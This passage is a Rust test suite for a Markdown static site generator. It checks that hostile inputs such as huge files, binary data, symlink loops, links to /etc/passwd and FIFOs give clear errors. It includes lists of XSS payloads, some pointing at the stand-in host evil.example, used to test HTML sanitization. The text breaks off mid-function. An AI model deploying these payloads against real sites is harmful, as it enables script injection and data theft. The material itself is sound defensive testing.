//! Hostile files: huge files, absurd front matter, binary data with
//! `.md` names, symlink loops and links out of the site, unreadable files and
//! special files. Each must give a clear error or warning naming the file,
//! never a panic (exit code 101) or a hang.
//!
//! The inputs are as small as still shows each behaviour, so that every
//! test takes a few seconds in a debug build on a busy machine; the
//! benchmark (`bench/hostile.sh`) times the same shapes at full size.

use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::support::{Run, Site, run};

const CASE: &str = "content/cases/molde.md";

/// `check --format json` on `site`: exit code, diagnostics and stderr.
fn check_json(site: &Site) -> (i32, Vec<Value>, Run) {
    let out = run(site.cmd(&["check", "--format", "json"]));
    assert_ne!(out.code, 101, "casebook panicked:\n{}", out.stderr);
    assert_ne!(
        out.code, -1,
        "casebook was killed (hang guard or signal):\n{}",
        out.stderr
    );
    let value: Value = serde_json::from_str(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {}\nstderr: {}",
            out.stdout, out.stderr
        )
    });
    let diags = value.as_array().cloned().unwrap_or_default();
    (out.code, diags, out)
}

/// `build` on `site`, which must refuse (exit 1) and write nothing.
fn assert_build_refuses(site: &Site) {
    let out = run(site.cmd(&["build"]));
    assert_eq!(out.code, 1, "build of a hostile site:\n{}", out.stderr);
    assert!(
        !site.path("public/index.html").exists(),
        "build wrote a site despite errors"
    );
}

/// The one diagnostic about `file`, which must exist.
#[track_caller]
fn find<'a>(diags: &'a [Value], file: &str) -> &'a Value {
    diags
        .iter()
        .find(|d| d["file"] == file)
        .unwrap_or_else(|| panic!("no diagnostic names `{file}`; got {}", pretty(diags)))
}

fn pretty(diags: &[Value]) -> String {
    let shown: Vec<&Value> = diags.iter().take(20).collect();
    serde_json::to_string_pretty(&shown).unwrap_or_default()
}

#[track_caller]
fn assert_diag(d: &Value, severity: &str, code: &str, message: &str) {
    assert_eq!(d["severity"], severity, "{d}");
    assert_eq!(d["code"], code, "{d}");
    let text = d["message"].as_str().unwrap_or("");
    assert!(text.contains(message), "message `{text}` lacks `{message}`");
}

/// A deterministic stream of pseudo-random bytes (xorshift), so a failure
/// can be replayed.
fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len);
    while out.len() < len {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        out.extend_from_slice(&seed.to_le_bytes());
    }
    out.truncate(len);
    out
}

fn write_bytes(site: &Site, rel: &str, bytes: &[u8]) {
    let path = site.path(rel);
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).expect("create parent");
    }
    fs::write(path, bytes).expect("write hostile file");
}

fn symlink(target: impl AsRef<Path>, link: &Path) {
    std::os::unix::fs::symlink(target, link).expect("create symlink");
}

#[test]
fn fifty_megabyte_case_is_refused_by_name_without_reading_it() {
    let site = Site::fixture("minimal");
    let mut text = String::from("---\ntitle: Stor\n---\n");
    let line = "Dette er en lang rapport om sykefravaer og naervaer i kommunen.\n";
    text.push_str(&line.repeat(50 * 1024 * 1024 / line.len() + 1));
    text.truncate(50 * 1024 * 1024);
    site.write("content/cases/stor.md", &text);
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1, "{}", pretty(&diags));
    assert_diag(
        find(&diags, "content/cases/stor.md"),
        "error",
        "file-too-large",
        "the file is 50 MB",
    );
    assert_build_refuses(&site);
}

#[test]
fn a_million_front_matter_keys_are_refused_by_size() {
    let site = Site::fixture("minimal");
    let mut text = String::from("---\n");
    for i in 0..1_000_000 {
        text.push_str(&format!("k{i}: 1\n"));
    }
    text.push_str("---\n");
    site.write("content/cases/nokler.md", &text);
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    assert_diag(
        find(&diags, "content/cases/nokler.md"),
        "error",
        "file-too-large",
        "at most 4 MB",
    );
}

/// Over the YAML node budget (250 000 values, which fit in the 4 MB file
/// limit): a located error in words, not the parser's debug output. One
/// test per style, so each reads one big file.
fn assert_node_budget_error(name: &str, open: &str, entry: &str, close: &str) {
    let site = Site::fixture("minimal");
    let mut text = format!("---\n{open}");
    for i in 0..=250_000 {
        text.push_str(&entry.replace("{}", &i.to_string()));
    }
    text.push_str(close);
    text.push_str("---\n");
    let rel = format!("content/cases/{name}.md");
    site.write(&rel, &text);
    let (code, diags, out) = check_json(&site);
    assert_eq!(code, 1);
    let d = find(&diags, &rel);
    assert_diag(d, "error", "yaml-syntax", "more than 250000 values");
    assert!(d["line"].as_u64().is_some_and(|l| l >= 2), "{d}");
    let help = d["help"].as_str().unwrap_or("");
    assert!(help.contains("plain fields and lists"), "{help}");
    assert!(
        !out.stdout.contains("Nodes {"),
        "debug output reached the user: {}",
        out.stdout
    );
}

#[test]
fn block_front_matter_over_the_node_budget_is_a_located_readable_error() {
    assert_node_budget_error("block", "", "k{}: 1\n", "");
}

#[test]
fn flow_front_matter_over_the_node_budget_is_a_located_readable_error() {
    assert_node_budget_error("flow", "{", "k{}: 1, ", "}\n");
}

/// Thousands of unknown keys are each a problem, but the report is capped
/// per file (100) and says how many it left out, so it neither floods the
/// terminal nor takes time quadratic in the file.
#[test]
fn many_unknown_keys_give_a_capped_report() {
    let site = Site::fixture("minimal");
    let mut text = String::from("---\ntitle: Mange felt\n");
    for i in 0..2_000 {
        text.push_str(&format!("k{i}: 1\n"));
    }
    text.push_str("---\n");
    site.write("content/cases/felt.md", &text);
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    let mine: Vec<&Value> = diags
        .iter()
        .filter(|d| d["file"] == "content/cases/felt.md")
        .collect();
    assert!(mine.len() <= 101, "{} diagnostics for one file", mine.len());
    let more = mine
        .iter()
        .find(|d| d["code"] == "too-many-problems")
        .unwrap_or_else(|| panic!("no `too-many-problems`; got {}", pretty(&diags)));
    assert_diag(
        more,
        "error",
        "too-many-problems",
        "more problems in this file",
    );
    let human = run(site.cmd(&["check"]));
    assert_eq!(human.code, 1);
    assert!(
        human.stderr.len() < 100_000,
        "{} bytes of human output",
        human.stderr.len()
    );
}

/// A big site of small files is no problem: every case is looked at.
#[test]
fn two_thousand_tiny_cases_are_all_checked() {
    const N: usize = 2_000;
    let site = Site::fixture("minimal");
    let tiny = "---\ntitle: T\nmunicipality: Molde\nmunicipality_number: \"1506\"\nprogramme: saman\n\
                themes: [kompetanse]\nneed: N\ngoal: G\nmeasures: [M]\nanchoring: A\n---\n";
    for i in 0..N {
        site.write(&format!("content/cases/k{i}.md"), tiny);
    }
    let out = run(site.cmd(&["check"]));
    assert_eq!(
        out.code,
        0,
        "{}",
        out.stderr.chars().take(2000).collect::<String>()
    );
    assert!(
        out.stderr.contains(&format!("checked {} cases", N + 1)),
        "{}",
        out.stderr
    );
}

#[test]
fn binary_files_with_md_names_are_invalid_content() {
    let site = Site::fixture("minimal");
    // A PNG's signature and header chunk: byte 0x89 is not UTF-8.
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89";
    write_bytes(&site, "content/cases/bilde.md", png);
    write_bytes(
        &site,
        "content/cases/stoy.md",
        &noise(64 * 1024, 0x5eed_cafe),
    );
    write_bytes(&site, "content/cases/nuller.md", &[0u8; 4096]);
    write_bytes(
        &site,
        "content/cases/nul-i-yaml.md",
        b"---\ntitle: \x00\x00\x00\nmunicipality: \x00\n---\n\x00",
    );
    // Valid UTF-8 up to a stray byte on line 3.
    write_bytes(
        &site,
        "content/cases/halvt.md",
        b"---\ntitle: Molde\n\xff\xfe\n---\n",
    );
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    assert_diag(
        find(&diags, "content/cases/bilde.md"),
        "error",
        "invalid-utf8",
        "not UTF-8",
    );
    assert_diag(
        find(&diags, "content/cases/stoy.md"),
        "error",
        "invalid-utf8",
        "not UTF-8",
    );
    assert_diag(
        find(&diags, "content/cases/nuller.md"),
        "error",
        "no-front-matter",
        "does not start with front matter",
    );
    assert_eq!(
        find(&diags, "content/cases/nul-i-yaml.md")["severity"],
        "error"
    );
    let half = find(&diags, "content/cases/halvt.md");
    assert_diag(half, "error", "invalid-utf8", "not UTF-8");
    assert_eq!(half["line"].as_u64(), Some(3), "{half}");
    assert_build_refuses(&site);
}

#[test]
fn symlink_loops_are_reported_by_name_and_not_followed() {
    let site = Site::fixture("minimal");
    let cases = site.path("content/cases");
    fs::create_dir_all(cases.join("under")).expect("mkdir");
    symlink("..", &cases.join("under/opp"));
    symlink("seg-selv.md", &cases.join("seg-selv.md"));
    symlink("b.md", &cases.join("a.md"));
    symlink("a.md", &cases.join("b.md"));
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    for file in ["under/opp", "seg-selv.md", "a.md", "b.md"] {
        let d = find(&diags, &format!("content/cases/{file}"));
        assert_diag(d, "error", "symlink-loop", "loop");
    }
    let human = run(site.cmd(&["check"]));
    assert!(
        human
            .stderr
            .contains("error: 4 problems in 4 of 5 case files"),
        "{}",
        human.stderr
    );
    assert_build_refuses(&site);
}

/// Links out of the site are refused, and nothing behind them is read: a
/// linked folder used to be walked and its files published.
#[test]
fn symlinks_out_of_the_site_are_refused_and_not_walked() {
    let site = Site::fixture("minimal");
    let outside = tempfile::TempDir::new().expect("temp");
    fs::write(
        outside.path().join("hemmelig.md"),
        "---\nhemmelig: passord\n---\n",
    )
    .expect("write");
    fs::write(outside.path().join("bilde.png"), b"\x89PNG").expect("write");
    let cases = site.path("content/cases");
    symlink("/etc/passwd", &cases.join("passwd.md"));
    symlink(outside.path(), &cases.join("ute"));
    symlink(
        outside.path().join("finnes-ikke.md"),
        &cases.join("dinglende.md"),
    );
    fs::create_dir_all(site.path("content/media")).expect("mkdir");
    symlink(outside.path(), &site.path("content/media/ute"));
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    for file in [
        "content/cases/passwd.md",
        "content/cases/ute",
        "content/media/ute",
    ] {
        assert_diag(
            find(&diags, file),
            "error",
            "symlink-outside",
            "outside the site folder",
        );
    }
    assert_diag(
        find(&diags, "content/cases/dinglende.md"),
        "error",
        "broken-symlink",
        "which does not exist",
    );
    let leaked: Vec<&Value> = diags
        .iter()
        .filter(|d| d["file"].as_str().is_some_and(|f| f.contains("ute/")))
        .collect();
    assert!(
        leaked.is_empty(),
        "files behind a link out of the site were read: {leaked:?}"
    );
    assert_build_refuses(&site);
}

/// chmod 000 stops an ordinary user, but not root (CAP_DAC_OVERRIDE), and
/// CI runs as root. Where the test itself can still read the file, casebook
/// can too, and there is nothing to assert: the test says so and passes.
#[test]
fn unreadable_case_is_named() {
    use std::os::unix::fs::PermissionsExt;
    let site = Site::fixture("minimal");
    let path = site.path("content/cases/laast.md");
    fs::write(&path, site.read(CASE)).expect("write");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o000)).expect("chmod");
    if fs::read(&path).is_ok() {
        eprintln!(
            "note: running with permission to read a mode-000 file (root?); the unreadable-file assertion is skipped"
        );
        return;
    }
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    assert_diag(
        find(&diags, "content/cases/laast.md"),
        "error",
        "unreadable",
        "permission denied",
    );
}

/// A named pipe blocks whoever opens it for reading: it must be skipped with
/// a warning, never opened.
#[test]
fn fifo_with_an_md_name_is_skipped_with_a_warning_not_opened() {
    let site = Site::fixture("minimal");
    let fifo = site.path("content/cases/ror.md");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("run mkfifo");
    assert!(made.success(), "mkfifo failed");
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 0, "{}", pretty(&diags));
    assert_diag(
        find(&diags, "content/cases/ror.md"),
        "warning",
        "not-a-file",
        "not a regular file",
    );
}

/// Markdown built to make a parser backtrack, 1 MB of it in a body: enough
/// that work quadratic in the body would never finish.
#[test]
fn pathological_markdown_bodies_finish() {
    let site = Site::fixture("minimal");
    let front = site.read(CASE);
    let front = &front[..front.rfind("---\n").expect("closing fence") + 4];
    let size = 1024 * 1024;
    let bodies: [(&str, String); 6] = [
        ("klammer", "![".repeat(size / 2)),
        ("sitat", ">".repeat(size)),
        ("emfase", "*a **a ".repeat(size / 7)),
        ("lenker", "[a](".repeat(size / 4)),
        ("html", "<div><img src=x ".repeat(size / 17)),
        ("liste", "- ".repeat(size / 2)),
    ];
    for (name, body) in &bodies {
        site.write(
            &format!("content/cases/{name}.md"),
            &format!("{front}{body}"),
        );
    }
    let (code, diags, _) = check_json(&site);
    assert!(code == 0 || code == 1, "exit {code}");
    for (name, _) in &bodies {
        let file = format!("content/cases/{name}.md");
        let count = diags.iter().filter(|d| d["file"] == file.as_str()).count();
        assert!(count <= 101, "{count} diagnostics for {file}");
    }
}

/// One line of a megabyte with an error in it: the snippet is cut, not
/// printed whole.
#[test]
fn an_error_on_a_megabyte_line_prints_a_short_snippet() {
    let site = Site::fixture("minimal");
    let text = format!("---\ntitle: [{}\n---\n", "x".repeat(1024 * 1024));
    site.write("content/cases/linje.md", &text);
    let out = run(site.cmd(&["check"]));
    assert_eq!(
        out.code,
        1,
        "{}",
        out.stderr.chars().take(2000).collect::<String>()
    );
    assert!(
        out.stderr.contains("content/cases/linje.md:2:8"),
        "{}",
        out.stderr.chars().take(2000).collect::<String>()
    );
    assert!(
        out.stderr.len() < 10_000,
        "{} bytes of output",
        out.stderr.len()
    );
}

/// Pieces of hostile Markdown and HTML that the renderer proptest strings
/// together (with random text between), so that each run tries a new mix.
const PIECES: [&str; 40] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/media/a.png\" onload=\"alert(1)\" alt=a>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\" &#106;avascript:alert(1)\">b</a>",
    "<a href=\"java\u{0}script:alert(1)\">c</a>",
    "<a href=\"vbscript:msgbox(1)\">d</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">e</a>",
    "[x](javascript:alert(1))",
    "[x](  JAVASCRIPT:alert(1) \"t\")",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/a.png)",
    "![x](/media/../../etc/passwd)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/\"><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>*{display:none}</style>",
    "<p style=\"position:fixed\">s</p>",
    "<div onmouseover=\"alert(1)\">d</div>",
    "<a href=\"https://ks.no/\" onclick=\"alert(1)\">ok</a>",
    "<object data=x></object><embed src=x>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x\"\nonerror=\"alert(1)\">",
    "# Tittel {#main onclick=alert(1)}",
    "Tekst[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>alert(1)</script>\n```",
    "<ſcript>alert(1)</ſcript> <ｓcript>alert(1)</ｓcript>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">f</a>",
    "<details open ontoggle=alert(1)>",
];

/// Every way sanitised HTML (as ammonia writes it: values in double quotes,
/// `&` and `"` escaped) could run script or load from elsewhere: elements
/// that can, `on*`/`style`/`srcdoc` attributes, `javascript:`/`vbscript:`/
/// `data:` URLs, images outside `{root}media/`, a `<` that opens no tag.
/// The fuzz target `markdown` holds the same oracle (it cannot import tests).
fn active_html(html: &str, root: &str) -> Vec<String> {
    const ELEMENTS: [&str; 22] = [
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
        "math", "form", "input", "button", "textarea", "select", "base", "meta", "link",
        "noscript", "template", "portal", "xmp",
    ];
    const URL_ATTRIBUTES: [&str; 9] = [
        "href",
        "src",
        "srcset",
        "cite",
        "action",
        "formaction",
        "poster",
        "background",
        "longdesc",
    ];
    let mut problems = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        rest = &rest[lt + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
            continue;
        }
        let tag = rest.strip_prefix('/').unwrap_or(rest);
        let name_len = tag
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(tag.len());
        let name = tag[..name_len].to_ascii_lowercase();
        if !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
            problems.push(format!(
                "a bare `<` before {:?}",
                rest.chars().take(20).collect::<String>()
            ));
            continue;
        }
        if ELEMENTS.contains(&name.as_str()) {
            problems.push(format!("element <{name}>"));
        }
        let mut attrs = &tag[name_len..];
        loop {
            attrs = attrs.trim_start();
            if attrs.is_empty() || attrs.starts_with('>') || attrs.starts_with("/>") {
                break;
            }
            let attr_len = attrs
                .find(|c: char| c.is_whitespace() || "=>/".contains(c))
                .unwrap_or(attrs.len())
                .max(1);
            let attr = attrs[..attr_len].to_ascii_lowercase();
            attrs = &attrs[attr_len..];
            let mut value = String::new();
            if let Some(v) = attrs.strip_prefix("=\"") {
                let end = v.find('"').unwrap_or(v.len());
                value = v[..end]
                    .replace("&quot;", "\"")
                    .replace("&lt;", "<")
                    .replace("&gt;", ">")
                    .replace("&nbsp;", "\u{a0}")
                    .replace("&amp;", "&");
                attrs = v.get(end + 1..).unwrap_or("");
            } else if let Some(v) = attrs.strip_prefix('=') {
                problems.push(format!("unquoted value of `{attr}` on <{name}>"));
                attrs = v;
            }
            if attr.starts_with("on")
                || ["style", "srcdoc", "http-equiv", "xmlns", "xlink:href"].contains(&attr.as_str())
            {
                problems.push(format!("attribute `{attr}` on <{name}>"));
            }
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                let url = browser_url(&value);
                if ["javascript:", "vbscript:", "data:", "file:"]
                    .iter()
                    .any(|s| url.starts_with(s))
                {
                    problems.push(format!("`{attr}=\"{value}\"` on <{name}>"));
                }
                if (attr == "src" || attr == "srcset")
                    && !value.starts_with(&format!("{root}media/"))
                {
                    problems.push(format!(
                        "`{attr}=\"{value}\"` outside {root}media/ on <{name}>"
                    ));
                }
            }
        }
    }
    problems
}

#[test]
fn the_oracle_sees_active_html() {
    let bad = "<p>a</p><script>x</script><a href=\" JavaScript:x\" onclick=\"y\">b</a><img src=\"https://e/x.png\"> 1 < 2";
    let found = active_html(bad, "/");
    assert_eq!(found.len(), 6, "{found:?}");
    let good = "<p>a &lt; b</p><a href=\"https://ks.no/?a=1&amp;b=2\">k</a><img src=\"/media/a.png\" alt=\"&quot;x&quot;\"><!-- <script> -->";
    assert_eq!(active_html(good, "/"), Vec::<String>::new());
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]
    /// What the `markdown` fuzz target checks: any mix of hostile pieces and
    /// text renders to HTML with nothing active in it.
    #[test]
    fn rendered_markdown_is_never_active(
        parts in proptest::collection::vec(
            (0..PIECES.len(), "\\PC{0,12}", proptest::sample::select(vec!["", " ", "\n", "\n\n", "\n> ", "\n- ", "\n    "])),
            1..8,
        ),
        root in proptest::sample::select(vec!["/", "/samling/"]),
    ) {
        use casebook::render::markdown::{Fragment, Ids, render};
        let mut text = String::new();
        for (piece, filler, sep) in parts {
            text.push_str(PIECES[piece]);
            text.push_str(&filler);
            text.push_str(sep);
        }
        let html = render(&text, Fragment { prefix: "behov", min_heading: 2, root }, &mut Ids::reserved(&["main"]));
        let problems = active_html(&html, root);
        proptest::prop_assert!(problems.is_empty(), "{:?}\nfrom {:?}\nto {}", problems, text, html);
    }
}

/// XSS payloads. `{M}` is replaced by a marker unique to
/// the payload (`XSS07`); a payload that became active would carry its
/// marker into a script, an event handler, a dangerous URL or a tag name.
/// Images point at `/media/pixel.svg` where the payload is not about the
/// image source, so that `check` lets the rest of the payload through.
const XSS_PAYLOADS: [&str; 48] = [
    "<script>alert('{M}')</script>",
    "<SCRIPT SRC=https://evil.example/{M}.js></SCRIPT>",
    "<ScRiPt>alert('{M}')</sCrIpT>",
    "<img src=\"/media/pixel.svg\" onerror=\"alert('{M}')\">",
    "<img src=/media/pixel.svg onload=alert('{M}') alt={M}>",
    "<img src=\"/media/pixel.svg\"\nonerror=\"alert('{M}')\">",
    "<svg onload=alert('{M}')><circle r=1 /></svg>",
    "<svg><script>alert('{M}')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=/media/pixel.svg onerror=alert('{M}')>",
    "<iframe src=\"javascript:alert('{M}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{M}')</script>\"></iframe>",
    "<a href=\"javascript:alert('{M}')\">a</a>",
    "<a href=\"JaVaScRiPt:alert('{M}')\">b</a>",
    "<a href=\" &#106;avascript:alert('{M}')\">c</a>",
    "<a href=\"java&#x09;script:alert('{M}')\">d</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('{M}')\">e</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('{M}')\">f</a>",
    "<a href=\"vbscript:msgbox('{M}')\">g</a>",
    "<a href=\"VBScript:MsgBox('{M}')\">h</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}\">i</a>",
    "[j](javascript:alert('{M}'))",
    "[k](  JAVASCRIPT:alert('{M}') \"t\")",
    "[l](<javascript:alert('{M}')>)",
    "<javascript:alert('{M}')>",
    "[m][r{M}]\n\n[r{M}]: javascript:alert('{M}')",
    "<base href=\"https://evil.example/{M}/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{M}\">",
    "<form action=\"https://evil.example/{M}\"><input name=q><button formaction=\"javascript:alert('{M}')\">n</button></form>",
    "<style>@import 'https://evil.example/{M}.css';</style>",
    "<p style=\"background:url(https://evil.example/{M})\">o</p>",
    "<div onmouseover=\"alert('{M}')\">p</div>",
    "<details open ontoggle=alert('{M}')>q</details>",
    "<object data=\"https://evil.example/{M}.swf\"></object><embed src=\"https://evil.example/{M}\">",
    "<link rel=stylesheet href=\"https://evil.example/{M}.css\">",
    "</title><script>alert('{M}')</script>",
    "\"><script>alert('{M}')</script>",
    "'><img src=/media/pixel.svg onerror=alert('{M}')>",
    "</script><script>alert('{M}')</script>",
    "<!--<script>alert('{M}')</script>-->",
    "<scr<script>ipt>alert('{M}')</scr</script>ipt>",
    "<ſcript>alert('{M}')</ſcript> <ｓcript>alert('{M}')</ｓcript>",
    "<img src=/media/pixel.svg onerror=alert('{M}')",
    "<noscript><p title=\"</noscript><img src=/media/pixel.svg onerror=alert('{M}')>\"></noscript>",
    "<table><td background=\"javascript:alert('{M}')\">r</td></table>",
    "<video poster=\"javascript:alert('{M}')\"></video><input autofocus onfocus=alert('{M}')>",
    "<a href=\"\u{1}javascript:alert('{M}')\">s</a> <a href=\"javascript\u{2028}:alert('{M}')\">t</a>",
    "{{ '{M}' }} {% raw %}<u>{M}</u>{% endraw %} <%= '{M}' %>",
    "![u](data:image/svg+xml,<svg/onload=alert('{M}')>) ![v](https://evil.example/{M}.png)",
];

/// A case with `payload` in every text field, Markdown field, the body,
/// a link title, an indicator name and label, and a funding source.
fn xss_case(payload: &str, marker: &str) -> String {
    let q = serde_json::to_string(payload).expect("json");
    format!(
        "---\ntitle: {q}\nmunicipality: {q}\nmunicipality_number: \"1506\"\ncounty: Møre og Romsdal\n\
         programme: saman\nthemes: [sykefravaer, kompetanse]\nstatus: completed\npublished: 2014-01-01\n\
         summary: {q}\nneed: {q}\ngoal: {q}\nmeasures: [{q}, {q}]\nresult: {q}\nanchoring: {q}\n\
         indicators:\n  - name: {q}\n    unit: percent\n    series: [{{ period: 2012, value: 1.5 }}, {{ period: 2013, value: 2.5 }}]\n\
         \x20   targets: [{{ period: 2014, value: 1.0, label: {q} }}]\n\
         funding:\n  - {{ source: {q}, amount_nok: 1000 }}\n\
         links:\n  - {{ title: {q}, url: \"https://example.com/{marker}?a=1&b=2\" }}\n\
         ---\n{payload}\n\n## {payload}\n\n> {payload}\n\n- {payload}\n\n[{payload}](https://example.com/)\n"
    )
}

/// One tag of an HTML page, attribute values unescaped, lower-case names.
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
    /// The raw text of a `<script>` or `<style>` element.
    raw: Option<String>,
}

fn unescape_attr(v: &str) -> String {
    v.replace("&quot;", "\"")
        .replace("&#34;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

/// The opening tags of `html`, with the raw contents of script and style.
/// A `<` that opens no tag is reported as a tag named `<`.
fn scan_tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        rest = &rest[lt + 1..];
        if let Some(after) = rest.strip_prefix("!--") {
            rest = after.find("-->").map_or("", |end| &after[end + 3..]);
            continue;
        }
        if rest.starts_with('!') || rest.starts_with('?') || rest.starts_with('/') {
            continue;
        }
        let name_len = rest
            .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..name_len].to_ascii_lowercase();
        if !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
            tags.push(Tag {
                name: "<".into(),
                attrs: Vec::new(),
                raw: None,
            });
            continue;
        }
        let mut attrs = Vec::new();
        let mut a = &rest[name_len..];
        loop {
            a = a.trim_start();
            if a.is_empty() || a.starts_with('>') || a.starts_with("/>") {
                break;
            }
            let len = a
                .find(|c: char| c.is_whitespace() || "=>".contains(c))
                .unwrap_or(a.len())
                .max(1);
            let attr = a[..len].to_ascii_lowercase();
            a = &a[len..];
            let mut value = String::new();
            if let Some(v) = a.strip_prefix('=') {
                let (raw, after) = match v.chars().next() {
                    Some(q @ ('"' | '\'')) => {
                        let end = v[1..].find(q).map_or(v.len(), |i| i + 1);
                        (&v[1..end], v.get(end + 1..).unwrap_or(""))
                    }
                    _ => {
                        let end = v
                            .find(|c: char| c.is_whitespace() || c == '>')
                            .unwrap_or(v.len());
                        (&v[..end], &v[end..])
                    }
                };
                value = unescape_attr(raw);
                a = after;
            }
            attrs.push((attr, value));
        }
        rest = a.strip_prefix('>').unwrap_or(a);
        let mut raw = None;
        if name == "script" || name == "style" {
            let end = rest
                .to_ascii_lowercase()
                .find(&format!("</{name}"))
                .unwrap_or(rest.len());
            raw = Some(rest[..end].to_owned());
            rest = &rest[end..];
        }
        tags.push(Tag { name, attrs, raw });
    }
    tags
}

/// Everything active in one built HTML (or SVG) file.
fn active_in_page(text: &str, markers: &[String]) -> Vec<String> {
    const URL_ATTRIBUTES: [&str; 11] = [
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "poster",
        "background",
        "cite",
        "data",
        "xlink:href",
        "longdesc",
    ];
    const LOADS: [&str; 5] = ["src", "srcset", "poster", "background", "data"];
    const NEVER: [&str; 11] = [
        "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "template",
        "portal", "style",
    ];
    let has_marker = |s: &str| markers.iter().any(|m| s.contains(m.as_str()));
    let mut problems = Vec::new();
    for tag in scan_tags(text) {
        let name = tag.name.as_str();
        let get = |k: &str| {
            tag.attrs
                .iter()
                .find(|(a, _)| a == k)
                .map(|(_, v)| v.as_str())
        };
        if name == "<" {
            continue; // a `<` in running text of a non-HTML file
        }
        if has_marker(&name.to_ascii_uppercase()) || NEVER.contains(&name) {
            problems.push(format!("element <{name}>"));
        }
        if name == "script" {
            let raw = tag.raw.as_deref().unwrap_or("");
            match get("src") {
                Some(src)
                    if src.starts_with('/') && !src.starts_with("//") && raw.trim().is_empty() => {}
                _ if get("type") == Some("application/ld+json") => {
                    if serde_json::from_str::<serde_json::Value>(raw).is_err() {
                        problems.push(format!("JSON-LD that is not JSON: {raw}"));
                    }
                }
                _ => problems.push(format!("inline or foreign script: {:?} {raw}", get("src"))),
            }
        }
        if name == "meta"
            && get("http-equiv").is_some_and(|h| !h.eq_ignore_ascii_case("content-security-policy"))
        {
            problems.push(format!("<meta http-equiv={:?}>", get("http-equiv")));
        }
        if name == "link"
            && get("rel").is_some_and(|r| {
                [
                    "stylesheet",
                    "preload",
                    "prefetch",
                    "import",
                    "icon",
                    "manifest",
                ]
                .contains(&r)
            })
            && get("href").is_some_and(|h| !h.starts_with('/') || h.starts_with("//"))
        {
            problems.push(format!("<link> to another host: {:?}", get("href")));
        }
        if name == "form"
            && get("action").is_some_and(|a| !a.starts_with('/') || a.starts_with("//"))
        {
            problems.push(format!("<form> posting elsewhere: {:?}", get("action")));
        }
        for (attr, value) in &tag.attrs {
            if has_marker(&attr.to_ascii_uppercase()) {
                problems.push(format!("attribute name `{attr}` from content on <{name}>"));
            }
            if attr.starts_with("on")
                || ["style", "srcdoc", "formaction", "http-equiv"].contains(&attr.as_str())
                    && name != "meta"
            {
                problems.push(format!("attribute `{attr}=\"{value}\"` on <{name}>"));
            }
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                let url = browser_url(value);
                if ["javascript:", "vbscript:", "data:", "file:"]
                    .iter()
                    .any(|s| url.starts_with(s))
